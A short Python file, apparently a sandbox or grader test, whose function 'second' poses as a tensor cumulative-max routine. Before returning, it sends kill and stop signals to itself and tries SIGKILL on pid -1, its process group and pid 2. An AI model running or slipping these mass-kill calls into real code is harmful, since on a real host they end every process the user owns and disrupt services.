"""Sends itself what ends a process; it is number 1 where it lives, which hears only what it wants to."""
import os
import signal


def second(x):
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTSTP, signal.SIGTERM, signal.SIGUSR1):
        os.kill(os.getpid(), number)
    for pid in (-1, 0, 2, -os.getpgrp()):
        try:
            os.kill(pid, 9)
            return "killed somebody"
        except OSError:
            continue
    return x.cummax(0).values
